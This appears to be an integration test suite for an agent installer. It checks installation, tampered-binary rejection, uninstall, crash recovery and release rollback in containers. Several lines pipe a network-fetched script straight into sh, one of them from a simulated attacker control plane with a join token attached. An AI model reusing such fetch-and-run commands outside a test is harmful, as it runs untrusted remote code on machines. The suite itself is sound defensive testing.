import { createReadStream } from 'node:fs';
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import packageFile from '../../package.json' with { type: 'json' };
import { createClient } from '../../cli/client.ts';
import type { ApiObject, Client } from '../../cli/client.ts';
import { startBareContainer } from '../harness/bare-container.ts';
import type { BareContainer } from '../harness/bare-container.ts';
import { builtRelease, ownPlatform } from '../harness/built-release.ts';
import type { BuiltRelease } from '../harness/built-release.ts';
import { freePort, Program } from '../harness/program.ts';
import { otherControlPlane } from '../harness/other-control-plane.ts';
import { smallRelease } from '../harness/small-release.ts';
import { until } from '../harness/until.ts';
import { longTag } from '../layer-report.ts';

const { version } = packageFile;
const home = '/opt/setpoint-agent';
const settings = '/etc/setpoint/agent.env';
const identity = '/var/lib/setpoint/agent/identity.json';
/** Its machines have no engine. */
const withoutEngine = `mkdir -p /etc/setpoint && echo SETPOINT_RUNTIME=mock >${settings}`;

let release: BuiltRelease;
let folder: string;
let server: Program;
let url: string;
let client: Client;

beforeAll(async () => {
  release = await builtRelease();
  folder = await mkdtemp(join(tmpdir(), 'setpoint-install-'));
  const listen = `127.0.0.1:${await freePort()}`;
  url = `http://${listen}`;
  const flags = ['--listen', listen, '--data', join(folder, 'server'), '--agent-release', release.folder];
  server = new Program(['server', ...flags], join(folder, 'server.log'));
  server.start();
  await server.ready(url);
  const visitor = createClient({ server: url, tenant: 'default' });
  const owner = { email: 'owner@example.test', password: 'correct horse battery' };
  await visitor.request('POST', '/api/v1/auth/register', { ...owner, first_name: 'Olive', last_name: 'Owner' });
  const login = await visitor.request('POST', '/api/v1/auth/login', owner);
  client = createClient({ server: url, tenant: 'default', token: z.object({ token: z.string() }).parse(login).token });
});
afterAll(async () => {
  await server.kill();
  await rm(folder, { recursive: true, force: true });
});

let made = 0;
/** A new server, and the command that its creation answers with, for a machine that has wget. */
async function newServer(): Promise<{ server: ApiObject; command: string; token: string }> {
  const created = await client.object('POST', '/api/v1/servers', { name: `machine-${(made += 1)}` });
  const command = String(created['install_command']).replace('curl -fsSL', 'wget -qO-');
  return { server: created, command, token: String(created['join_token']) };
}

function connected(id: string): Promise<true> {
  return until(
    'the agent is connected',
    async () => {
      const it = await client.object('GET', `/api/v1/servers/${id}`);
      return it['agent_status'] === 'connected' && it.status === 'active';
    },
    { explain: () => server.lastOutput() },
  );
}

/** A machine in which nothing was installed. */
const bareMachine = (): Promise<BareContainer> => startBareContainer(release.executable);
const output = async (machine: BareContainer, line: string): Promise<string> => (await machine.run(line)).stdout.trim();

describe('the command that a new server answers with', () => {
  it('installs the agent where there is no Node, lets it join, and forgets the token', async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, command } = await newServer();
    const first = await machine.run(command);
    expect({ code: first.code, stderr: first.stderr }).toEqual({ code: 0, stderr: '' });
    expect(first.stdout).toContain('The agent has joined the control plane');
    await connected(it.id);
    expect(await client.request('GET', `/api/v1/servers/${it.id}/agent-status`)).toMatchObject({
      agent_version: version,
    });
    expect((await output(machine, `cat ${settings}`)).split('\n')).toEqual([
      'SETPOINT_RUNTIME=mock',
      `SETPOINT_SERVER=${url}/default`,
    ]);
    expect(await output(machine, `stat -c %a ${settings} ${identity}`)).toBe('600\n600');
    expect(await output(machine, 'setpoint-agent --version')).toBe(version);

    // once more: the same agent, the same identity
    const before = await output(machine, `sha256sum ${identity}; ls ${home}/versions`);
    const second = await machine.run(command);
    expect({ code: second.code, stderr: second.stderr }).toEqual({ code: 0, stderr: '' });
    expect(second.stdout).toContain(`Version ${version} is here already`);
    expect(second.stdout).not.toContain('Wrote');
    await connected(it.id);
    expect(await output(machine, `sha256sum ${identity}; ls ${home}/versions`)).toBe(before);
    expect(await output(machine, "ps -o args | grep -c '[/]supervise'")).toBe('1');
  });

  it('installs nothing of what was changed on its way, and shows the token to no other user', async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { token } = await newServer();
    let processes = '';
    const changed = (): NodeJS.ReadableStream => {
      const bytes = createReadStream(release.executable);
      bytes.once('data', (chunk) => void ((chunk as Buffer)[1000]! ^= 1)); // the stream has no encoding
      return bytes;
    };
    const asked = async (): Promise<void> => void (processes = await output(machine, 'ps -o args'));
    await using attacker = await otherControlPlane(release.manifest, { content: changed, asked });
    const line = `wget -qO- ${attacker.url}/install.sh | SETPOINT_JOIN_TOKEN=${token} sh -s -- --server ${attacker.url}/default`;
    // from a file: the shell of the test would have the line as its argument
    await machine.run(`echo '${line}' >/tmp/line`);
    const ended = await machine.run('sh /tmp/line');
    expect(ended.code).toBe(1);
    expect(ended.stderr).toContain('What was fetched is not the agent of this release: its SHA-256 is');
    expect(await output(machine, `ls -A ${home}/versions/${version}; ls ${home} ${identity}; cat ${settings}`)).toBe(
      `${home}:\nversions\nSETPOINT_RUNTIME=mock`,
    );
    expect(processes).toContain('sh -s -- --server');
    expect(processes).not.toContain('sj_');
  });

  it('says which library the machine lacks', { tags: [longTag] }, async () => {
    await using machine = await bareMachine();
    await machine.run(`${withoutEngine}; find / -xdev -name 'libatomic.so*' | xargs rm`);
    const { command } = await newServer();
    const ended = await machine.run(command);
    expect(ended.code).toBe(1);
    expect(ended.stderr).toContain('libatomic.so.1');
    expect(ended.stderr).toContain('It needs glibc 2.28 or later, libstdc++ and libatomic');
    expect(await output(machine, `ls -A ${home}/versions/${version}`)).toBe('');
  });

  it('says when the agent does not join, and why is in its log', { tags: [longTag] }, async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, command } = await newServer();
    await client.request('POST', `/api/v1/servers/${it.id}/join-token`, {}); // the token before is void
    const ended = await machine.run(command.replace('|', "| sed 's/^join_seconds=60/join_seconds=0/' |"));
    expect(ended.code).toBe(1);
    expect(ended.stderr).toContain('has not joined within');
    expect(await output(machine, 'cat /var/log/setpoint-agent.log')).toContain('The control plane refuses this agent');
  });
});

/** What an installation leaves on a machine; empty when nothing of it is there. */
const leftOn = (machine: BareContainer): Promise<string> =>
  output(
    machine,
    `ls -d ${home} ${settings} /var/lib/setpoint /etc/setpoint /usr/local/bin/setpoint-agent /run/setpoint-agent.pid /var/log/setpoint-agent.log 2>/dev/null; pidof setpoint-agent; ps -o args | grep '[/]supervise'`,
  );

describe('an agent that is not needed any more', () => {
  it('removes itself when its server is deleted, but for the dumps of the operator', async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, command } = await newServer();
    expect((await machine.run(command)).code).toBe(0);
    await connected(it.id);
    await machine.run('echo mine >/var/lib/other; echo rows >/var/lib/setpoint/agent/imports/shop.sql');
    expect(await leftOn(machine)).toContain('/supervise');
    await client.request('DELETE', `/api/v1/servers/${it.id}`);
    await until('nothing else of it is left', async () => (await leftOn(machine)) === '/var/lib/setpoint', {
      timeoutMs: 60_000,
      explain: async () => `${await leftOn(machine)}\n${await server.lastOutput()}`,
    });
    expect(await output(machine, 'cd /var/lib/setpoint && find . -type f')).toBe('./agent/imports/shop.sql');
    await expect(client.object('GET', `/api/v1/servers/${it.id}`)).rejects.toThrow();
    expect(await output(machine, 'cat /var/lib/other')).toBe('mine');
  });

  it('goes on with that after it was killed in the middle', async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, command } = await newServer();
    expect((await machine.run(command)).code).toBe(0);
    await connected(it.id);
    // as a kill after the order was stored leaves it
    await machine.run('touch /var/lib/setpoint/agent/uninstall');
    await machine.run(boot);
    await until('nothing of it is left', async () => (await leftOn(machine)) === '', {
      timeoutMs: 60_000,
      explain: () => leftOn(machine),
    });
  });

  it(
    'is removed by the script, also after an attempt that was cut off, and twice does no harm',
    { tags: [longTag] },
    async () => {
      await using machine = await bareMachine();
      await machine.run(withoutEngine);
      const { server: it, command } = await newServer();
      expect((await machine.run(command)).code).toBe(0);
      await machine.run('mkdir /var/lib/setpoint/provision && touch /var/lib/setpoint/provision/log');
      await connected(it.id);
      const line = `wget -qO- ${url}/install.sh | sh -s -- --uninstall`;
      const first = await machine.run(line);
      expect(first, first.stderr).toMatchObject({ code: 0 });
      expect(first.stdout).toContain('The agent is removed from this machine');
      expect(await leftOn(machine)).toBe('');
      await machine.run(`mkdir -p /var/lib/setpoint/agent && echo x >/var/lib/setpoint/agent/ports.json`);
      const second = await machine.run(line);
      expect(second, second.stderr).toMatchObject({ code: 0 });
      expect(second.stdout).toContain('Fetching');
      expect(await leftOn(machine)).toBe('');
      const third = await machine.run(line);
      expect(third).toMatchObject({ code: 0, stdout: 'setpoint: No agent is installed on this machine\n' });
    },
  );
});

/** Lines of the script after which it is killed: one of each step. */
const steps = [
  '  mkdir -p "$home/versions/$version"',
  '  chmod 755 "$part"',
  '  mv -f "$part" "$executable"',
  '  supervise_file | put 755 "$home/supervise"',
  '  mkdir -p "$(dirname "$settings")"',
  '    note trial "$version"',
  '    note current "$version"',
  '  rm -f "$home/failed"',
  '  stop_supervisor',
];
/** The script, which kills itself after that line. */
function withKill(text: string, step: string): string {
  const parts = text.split(`\n${step}\n`);
  expect(parts, step).toHaveLength(2);
  return parts.join(`\n${step}\nkill -9 $$\n`);
}

/** Starts the agent as the init of a machine does after its start. */
const boot = `kill -9 $(cat /run/setpoint-agent.pid) $(pidof setpoint-agent) 2>/dev/null
export $(cat ${settings}) SETPOINT_AGENT_LOG=/var/log/setpoint-agent.log
setsid ${home}/supervise </dev/null >/dev/null 2>&1 &
echo $! >/run/setpoint-agent.pid`;

describe('an installation that is killed after any step', () => {
  it('leaves the agent that ran before, and is completed by the next run', { tags: 'long' }, async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { command } = await newServer();
    expect((await machine.run(command)).code).toBe(0);
    const connections = async (): Promise<number> =>
      Number(await output(machine, 'cat /var/log/setpoint-agent.log | grep -c "Connected to the control plane"'));
    // a later agent: the same one, which ends its trial itself, as it does not know that version
    const later = `#!/bin/sh
[ "$1" != --version ] || { echo 9.9.8; exit; }
rm -f "$SETPOINT_AGENT_HOME/trial"
exec ${home}/versions/${version}/setpoint-agent "$@"
`;
    await using small = await smallRelease('9.9.8', { [ownPlatform]: later });
    let killedAfter: string | undefined;
    const script = (text: string): string => (killedAfter === undefined ? text : withKill(text, killedAfter));
    await using other = await otherControlPlane(small.manifest, { content: () => later, script });
    const line = `wget -qO- ${other.url}/install.sh | sh`;
    for (const step of steps) {
      killedAfter = step;
      const before = await connections();
      expect((await machine.run(line)).code, step).toBe(137);
      await machine.run(boot);
      await until(`the agent connects after a kill after: ${step}`, async () => (await connections()) > before, {
        explain: () => output(machine, 'tail -n 20 /var/log/setpoint-agent.log; ps -o args'),
      });
    }
    killedAfter = undefined;
    const ended = await machine.run(line);
    expect({ code: ended.code, stderr: ended.stderr }).toEqual({ code: 0, stderr: '' });
    expect(await output(machine, `cd ${home} && cat current previous && ls . versions/9.9.8`)).toBe(
      [
        '9.9.8',
        version,
        '.:',
        'current',
        'previous',
        'supervise',
        'versions',
        '',
        'versions/9.9.8:',
        'setpoint-agent',
      ].join('\n'),
    );
  });

  it('is completed by the next run where nothing was installed before', { tags: 'long' }, async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, token } = await newServer();
    const answer = await fetch(`${url}/install.sh`);
    const whole = await answer.text();
    const run = (text: string): Promise<{ code: number | null; stderr: string }> =>
      machine.run(
        `cat <<'END_OF_TEST' | SETPOINT_JOIN_TOKEN=${token} sh -s -- --server ${url}/default\n${text}\nEND_OF_TEST`,
      );
    for (const step of steps.slice(1)) expect((await run(withKill(whole, step))).code, step).toBe(137);
    const { code, stderr } = await run(whole);
    expect({ code, stderr }).toEqual({ code: 0, stderr: '' });
    await connected(it.id);
    expect(await output(machine, `cat ${settings}`)).not.toContain('TOKEN');
  });
});

describe('a later release', () => {
  it('that does not connect is left for the one before, by itself', { tags: [longTag] }, async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, command } = await newServer();
    expect((await machine.run(command)).code).toBe(0);
    const broken = '#!/bin/sh\n[ "$1" != --version ] || { echo 9.9.9; exit; }\necho cannot start >&2\nexit 1\n';
    await using later = await smallRelease('9.9.9', { [ownPlatform]: broken });
    await using other = await otherControlPlane(later.manifest, { content: () => broken });
    const ended = await machine.run(`wget -qO- ${other.url}/install.sh | sh`);
    expect(ended.code).toBe(1);
    expect(ended.stderr).toContain(
      'Version 9.9.9 did not connect to the control plane, and the version before it runs',
    );
    await connected(it.id);
    expect(await output(machine, `cat ${home}/current ${home}/failed; ls ${home}/versions`)).toBe(
      `${version}\n9.9.9\n${version}\n9.9.9`,
    );
  });

  it('that connects is kept', { tags: [longTag] }, async () => {
    await using machine = await bareMachine();
    await machine.run(withoutEngine);
    const { server: it, command } = await newServer();
    expect((await machine.run(command)).code).toBe(0);
    // as if an earlier version had been installed
    await machine.run(
      `cd ${home} && kill $(cat /run/setpoint-agent.pid); sleep 1; mv versions/${version} versions/0.0.9 && echo 0.0.9 >current && rm -f trial`,
    );
    const ended = await machine.run(`wget -qO- ${url}/install.sh | sh`);
    expect({ code: ended.code, stderr: ended.stderr }).toEqual({ code: 0, stderr: '' });
    await connected(it.id);
    expect(await output(machine, `cd ${home} && cat current previous && ls`)).toBe(
      [version, '0.0.9', 'current', 'previous', 'supervise', 'versions'].join('\n'),
    );
  });
});
